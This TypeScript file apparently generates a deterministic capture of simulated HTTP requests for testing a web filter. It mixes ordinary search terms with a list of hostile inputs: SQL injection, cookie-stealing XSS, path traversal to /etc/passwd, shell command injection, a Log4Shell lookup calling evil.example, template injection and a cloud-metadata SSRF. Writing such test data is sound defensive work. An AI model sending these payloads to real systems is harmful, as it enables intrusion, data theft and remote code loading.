/** One request of the capture. */
export interface Captured {
  readonly id: string;
  readonly method: 'GET' | 'POST';
  readonly target: string;
  readonly body: string | undefined;
}

const VALUES = [
  'shoes',
  'red boots size 42',
  "O'Brien & sons",
  'select a colour',
  '10% off <today>',
  'a=b;c=d',
  'naïve café',
  '2026-11-23T10:00:00Z',
  "1' OR '1'='1",
  '1 UNION SELECT name, password FROM users-- -',
  "'; DROP TABLE users; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '; cat /etc/passwd',
  '$(id)',
  `$${'{jndi:ldap://evil.example/a}'}`,
  '{{7*7}}',
  'http://169.254.169.254/latest/meta-data/',
];

/** Ordinary and hostile requests, in the query and in a form body; the same every time. */
export function capture(count: number): Captured[] {
  return Array.from({ length: count }, (_, i) => {
    const value = encodeURIComponent(VALUES[i % VALUES.length]!);
    const post = Math.floor(i / VALUES.length) % 2 === 1;
    const target = post ? `/form/${i}` : `/search/${i}?q=${value}`;
    return { id: String(i), method: post ? 'POST' : 'GET', target, body: post ? `q=${value}&page=${i}` : undefined };
  });
}
